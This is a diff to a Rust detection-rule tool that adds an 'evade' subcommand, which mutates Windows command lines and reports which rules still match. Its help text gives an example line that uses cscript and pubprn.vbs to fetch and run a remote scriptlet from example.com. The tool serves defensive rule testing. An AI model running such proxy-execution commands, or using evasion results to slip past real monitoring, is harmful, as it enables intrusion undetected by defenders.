@@ -30,6 +30,7 @@ pub enum Command {
     Lint(Lint),
     Explain(Explain),
     Guide(Guide),
+    Evade(Evade),
 }
 
 /// Evaluate rules on events: match, can't tell, or no match
@@ -199,6 +200,37 @@ pub struct Guide {
     /// Show all rows of each table
     #[arg(long)]
     pub all: bool,
+}
+
+/// Write matching command lines in other ways that Windows accepts, and show which rules still match
+///
+/// For each event that a rule matches: the mutations of its command line by the rules, `+` where a
+/// rule survives, `-` where it is evaded, `?` where it can't tell; the line as the log shows it, and
+/// what no longer holds in the rule. What a shell takes out before the process starts changes
+/// nothing in the log, stands with a blank, and counts for no score.
+#[derive(Debug, clap::Args)]
+#[command(after_help = "\
+Examples:
+  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout evade -
+  cutout evade --rule t1216/pubprn lines.txt     one rule of the pack
+  cutout evade --rules rules/ --line 3 --json events.ndjson
+
+With --json every line is one object: {\"event\",\"rules\",\"line\",\"rows\",\"scores\",\"note\"}. The cells of
+a row and the scores stand in the order of rules.")]
+pub struct Evade {
+    /// Files with events in any format, folders of them, or - for standard input
+    #[arg(required = true, value_name = "EVENTS")]
+    pub events: Vec<PathBuf>,
+    #[command(flatten)]
+    pub choice: Choice,
+    /// Only events of this line
+    #[arg(long, value_name = "N")]
+    pub line: Option<u32>,
+    #[command(flatten)]
+    pub reading: Reading,
+    /// Print JSON, one object a line
+    #[arg(long)]
+    pub json: bool,
 }
 
 /// When `eval` reports findings.
